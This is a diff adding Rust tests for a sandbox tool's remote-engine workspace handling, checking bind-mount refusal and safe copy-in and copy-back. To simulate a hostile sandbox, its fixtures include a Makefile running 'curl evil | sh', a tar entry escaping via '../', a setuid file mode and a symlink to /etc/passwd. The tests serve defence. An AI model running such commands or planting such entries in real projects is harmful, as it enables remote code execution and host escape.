@@ -1,0 +1,193 @@
+//! The workspace on an engine on another machine (SPEC §6.1 "workspace"):
+//! a bind mount there names that machine's path, so it is refused before
+//! anything is created; `sandbox_workspace` `copy` uploads the working
+//! directory at launch and copies it back, through the filter of
+//! `workspace_copy`, at `down`. The engine is the fake: nothing connects.
+
+mod common;
+
+use common::*;
+use odek_core::engine::Op;
+use odek_core::FailureClass;
+
+const REMOTE: &str = "tcp://10.0.0.5:2375";
+
+fn remote() -> Setup {
+    let endpoint = odek_core::engine::Endpoint::named(REMOTE, "docker_host").expect("valid");
+    Setup::with_fake(shop_fake().with_endpoint(endpoint)).image(IMAGE)
+}
+
+fn copy(s: Setup) -> Setup {
+    s.flag("sandbox_workspace", "--sandbox-workspace", |l| {
+        l.sandbox_workspace = Some("copy".into())
+    })
+}
+
+/// An archive entry written as the bytes say (the tar crate's builder
+/// refuses `..`; a hostile engine does not).
+fn raw(b: &mut tar::Builder<Vec<u8>>, path: &str, mode: u32, data: &[u8]) {
+    let mut h = tar::Header::new_old();
+    h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
+    h.set_entry_type(tar::EntryType::Regular);
+    h.set_mode(mode);
+    h.set_size(data.len() as u64);
+    h.set_cksum();
+    b.append(&h, data).expect("append");
+}
+
+#[tokio::test]
+async fn a_remote_engine_refuses_the_bind_mounted_workspace_before_anything_is_created() {
+    let s = remote();
+    let err = s
+        .resolve()
+        .await
+        .expect_err("a bind mount on another machine");
+    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
+    let msg = err.to_string();
+    assert!(
+        msg.contains("run odek on the engine's machine")
+            && msg.contains("--sandbox-workspace copy")
+            && msg.contains(&format!("a bind mount of {}", s.workdir.display())),
+        "{msg}"
+    );
+    // Only the version and endpoint questions were asked: no container,
+    // no network, no image pulled.
+    assert!(s.fake.calls_of(Op::CreateContainer).is_empty());
+    assert!(s.fake.calls_of(Op::PullImage).is_empty());
+}
+
+/// A plan made for a local engine (it crosses the C ABI as JSON) is refused
+/// by a client whose engine is remote, at launch, before anything is made.
+#[tokio::test]
+async fn a_bind_plan_launched_on_a_remote_engine_is_refused_at_launch() {
+    let local = Setup::new();
+    let plan = local.resolve().await.expect("resolve on a local engine");
+    let s = remote();
+    let err = s.launch(&plan).await.expect_err("refused at launch");
+    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
+}
+
+/// The project cannot choose the copy (it is the operator's, SPEC §6.1
+/// "workspace"): its value is ignored, said, and the bind refused.
+#[tokio::test]
+async fn a_project_cannot_choose_the_copied_workspace() {
+    let s = remote().project_config(r#"{"sandbox_workspace": "copy"}"#);
+    let err = s.resolve().await.expect_err("still a bind mount");
+    assert_refused_before_create(&s, &err, FailureClass::Config, "runs on another machine");
+    assert!(
+        s.reporter.warnings().iter().any(|w| w.message.contains(
+            "\"sandbox_workspace\": \"copy\" is ignored; a project config cannot choose"
+        )),
+        "{:?}",
+        s.reporter.warnings()
+    );
+}
+
+/// Copy: nothing is bind-mounted at /workspace; the working directory is
+/// uploaded before start, owned by the command user; `down` copies back
+/// what changed, refuses what must not come back, and names a changed file
+/// host tools run as a bind mount's write would be.
+#[tokio::test]
+async fn a_copied_workspace_round_trips_a_file() {
+    let s = copy(remote());
+    std::fs::write(s.workdir.join("hello.txt"), b"from the host").expect("write");
+    std::os::unix::fs::symlink("/etc/passwd", s.workdir.join("passwd")).expect("symlink");
+    let plan = s.resolve().await.expect("resolve: copy is the fix");
+    assert_eq!(plan.workspace, odek_core::config::WorkspaceMode::Copy);
+    let sb = s.launch(&plan).await.expect("launch");
+    let id = sb.container_id.clone().expect("a container");
+    // Uploaded before start.
+    let ops: Vec<Op> = s
+        .fake
+        .calls()
+        .iter()
+        .filter(|c| !c.probe && matches!(c.op, Op::UploadArchive | Op::StartContainer))
+        .map(|c| c.op)
+        .collect();
+    assert_eq!(ops, [Op::UploadArchive, Op::StartContainer]);
+    let up = s.fake.archive(&id, "/").expect("uploaded to /");
+    let mut ar = tar::Archive::new(up.as_slice());
+    let mut seen = Vec::new();
+    for e in ar.entries().expect("tar") {
+        let mut e = e.expect("entry");
+        let path = e.path().expect("path").display().to_string();
+        let mut body = String::new();
+        std::io::Read::read_to_string(&mut e, &mut body).expect("read");
+        seen.push((path, body));
+    }
+    assert_eq!(
+        seen,
+        [
+            ("workspace/".to_string(), String::new()),
+            (
+                "workspace/hello.txt".to_string(),
+                "from the host".to_string()
+            ),
+        ],
+        "the outside symlink stays behind"
+    );
+    assert!(
+        s.reporter.warnings().iter().any(|w| w
+            .message
+            .contains("passwd: a symlink to /etc/passwd, outside the workspace")),
+        "{:?}",
+        s.reporter.warnings()
+    );
+    // What the sandbox left in /workspace, with a hostile entry.
+    let mut b = tar::Builder::new(Vec::new());
+    raw(
+        &mut b,
+        "workspace/hello.txt",
+        0o644,
+        b"changed in the sandbox",
+    );
+    raw(
+        &mut b,
+        "workspace/Makefile",
+        0o4755,
+        b"all:\n\tcurl evil | sh\n",
+    );
+    raw(&mut b, "workspace/../escape", 0o644, b"x");
+    s.fake
+        .put_archive(&id, "/workspace", b.into_inner().expect("tar"));
+    let report = s.odek.close(&sb).await.expect("down");
+    assert_eq!(
+        std::fs::read_to_string(s.workdir.join("hello.txt")).expect("read"),
+        "changed in the sandbox"
+    );
+    let copied = report.copied_back.clone().expect("copied back");
+    assert_eq!(copied.written, ["hello.txt", "Makefile"]);
+    assert_eq!(copied.skipped.len(), 1, "{:?}", copied.skipped);
+    assert!(!s.root().join("escape").exists());
+    let mode = std::os::unix::fs::PermissionsExt::mode(
+        &std::fs::metadata(s.workdir.join("Makefile"))
+            .expect("meta")
+            .permissions(),
+    );
+    assert_eq!(mode & 0o7777, 0o755, "no setuid bit comes back");
+    // Named as a local sandbox's change would be.
+    assert!(
+        report.changed.iter().any(|c| c.path == "Makefile"),
+        "{report:?}"
+    );
+    assert!(
+        s.fake.containers().is_empty(),
+        "removed after the copy-back"
+    );
+}
+
+/// A copy-back the engine refuses keeps the container (nothing is lost)
+/// and says why.
+#[tokio::test]
+async fn a_failed_copy_back_keeps_the_sandbox() {
+    let s = copy(remote());
+    let sb = s.up().await.expect("up");
+    s.fake.fail(odek_core::engine::Fault::new(
+        Op::DownloadArchive,
+        1,
+        odek_core::engine::EngineErrorKind::Rejected,
+    ));
+    let err = s.odek.close(&sb).await.expect_err("copy-back failed");
+    assert!(err.to_string().contains("copy the workspace out"), "{err}");
+    assert_eq!(s.fake.containers().len(), 1, "the sandbox is kept");
+}
